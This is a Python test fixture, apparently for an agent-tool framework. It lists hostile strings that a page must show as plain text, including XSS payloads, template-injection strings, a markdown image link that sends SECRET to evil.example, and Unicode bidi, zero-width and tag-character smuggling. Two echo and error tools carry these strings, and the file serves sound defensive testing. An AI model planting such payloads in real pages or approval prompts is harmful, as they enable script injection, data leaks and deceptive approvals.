"""Texts that a page must show as text, and tools that repeat a text."""

from __future__ import annotations

from typing import Any

from agentruns import tool

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover=alert(1) x='' autofocus onfocus='alert(1)",
    "image": "<img src=x onerror=alert(1)><style>*{display:none}</style>",
    "link": "<a href='javascript:alert(1)'>approve</a>",
    "template": "{{ request }}{% csrf_token %}%(name)s %s {0}",
    "markdown": "![x](https://evil.example/?d=SECRET) [click](javascript:alert(1))",
    "comment": "--><!-- </textarea></pre></title>",
    "bidi": "pay \u202e0005\u202c to \u2066Ann\u2069",
    "zero width": "ad\u200bmin\u200d\ufeff",
    "control": "bell\x07 escape\x1b[2J back\x08",
    "null": "nu\x00ll",
    "surrogate": "half \ud800 a pair",
    "separators": "line\u2028separator\u2029\u0085",
    "tags": "smuggled\U000e0041\U000e0042\U000e0100",
}


@tool(requires_approval=True, describe=lambda args: f"Write {args['text']}")
def write(text: str) -> dict[str, Any]:
    """Write, and return what was written."""
    return {"wrote": text, text: [text]}


@tool
def explode(text: str) -> str:
    """Fail with the text."""
    raise ValueError(text)
